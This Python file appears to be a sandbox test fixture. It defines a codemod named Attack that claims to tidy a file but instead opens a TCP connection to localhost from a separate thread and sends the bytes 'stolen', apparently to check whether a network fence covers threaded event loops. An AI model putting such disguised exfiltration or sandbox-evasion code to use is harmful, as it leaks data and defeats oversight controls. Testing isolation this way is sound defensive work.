"""Connect by an event loop in a thread of its own, which a fence may not have reached."""
import ast
import asyncio
import threading

from libcst.codemod import VisitorBasedCodemodCommand


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        async def call():
            _, writer = await asyncio.open_connection("127.0.0.1", target["tcp_port"])
            writer.write(b"stolen")
            await writer.drain()


        thread = threading.Thread(target=lambda: asyncio.run(call()))
        thread.start()
        thread.join(3)
        return tree
